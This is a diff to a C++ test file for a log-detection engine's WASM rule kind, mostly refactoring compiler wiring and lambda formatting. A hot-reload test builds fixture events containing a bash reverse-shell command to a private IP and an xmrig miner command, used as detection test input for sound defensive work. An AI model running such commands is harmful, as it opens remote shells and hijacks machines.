@@ -8,8 +8,8 @@
 #include "detect/detection_stage.h"
 #include "detect/rule_compiler.h"
 #include "detect/rule_file.h"
-#include "engine/rule_kinds.h"
 #include "wasm/dir_watcher.h"
+#include "wasm/wasm_rule_kind.h"
 #include "wasm_test_util.h"
 
 namespace wsn::wasm::testing {
@@ -33,8 +33,8 @@ class RuleKindTest : public WasmFixture {
   }
 
   RuleSetBuild build() {
-    RuleLoadResult loaded = load_rule_files({dir_.string()});
-    RuleKindCompiler* compilers[] = {kind_.get()};
+    RuleLoadResult loaded = load_rule_files({dir_.string()}, PluginRegistry::builtin());
+    const NamedRuleKind compilers[] = {{"wasm", kind_.get()}};
     RuleSetBuild b = build_rule_set(loaded.rules, compilers, registry_, ++generation_);
     b.report.errors.insert(b.report.errors.begin(), loaded.errors.begin(), loaded.errors.end());
     return b;
@@ -45,7 +45,7 @@ class RuleKindTest : public WasmFixture {
   }
 
   fs::path dir_;
-  std::unique_ptr<RuleKindCompiler> kind_;
+  std::unique_ptr<RuleKind> kind_;
   uint64_t generation_ = 0;
 };
 
@@ -95,13 +95,12 @@ TEST_F(RuleKindTest, YamlRulesRunOnTheSampleLogAndReportBadOnes) {
   RuleSetHolder holder;
   holder.publish(b.rule_set);
   std::map<std::string, std::set<std::string>> hits;
-  DetectionStage stage(
-      holder, [&](const RuleSet& set, uint32_t rule, std::span<const Event* const> events,
-                  const MatchDetail*) {
-        FieldView v;
-        events[0]->get(fields::kEventId, v);
-        hits[set.rules[rule].id].insert(std::string(v.s));
-      });
+  DetectionStage stage(holder, [&](const RuleSet& set, uint32_t rule,
+                                   std::span<const Event* const> events, const MatchDetail*) {
+    FieldView v;
+    events[0]->get(fields::kEventId, v);
+    hits[set.rules[rule].id].insert(std::string(v.s));
+  });
   auto sample = read_jsonl_file(WSN_SOURCE_DIR "/data/sample/linux-activity.jsonl", registry_);
   ASSERT_TRUE(sample.ok());
   for (const Event& e : sample.value()) stage.process(e);
@@ -143,10 +142,8 @@ TEST_F(RuleKindTest, HotReloadPicksUpNewModulesAndKeepsTheLastGoodOne) {
   };
 
   size_t matches = 0;
-  DetectionStage stage(holder,
-                       [&](const RuleSet&, uint32_t, std::span<const Event* const>, const MatchDetail*) {
-                         ++matches;
-                       });
+  DetectionStage stage(holder, [&](const RuleSet&, uint32_t, std::span<const Event* const>,
+                                   const MatchDetail*) { ++matches; });
   Event shell = process_event("s", "exec", "bash", "bash -i >& /dev/tcp/10.9.8.7/443 0>&1");
   Event miner = process_event("m", "exec", "xmrig", "xmrig -o stratum+tcp://pool.example:3333");
   stage.process(shell);
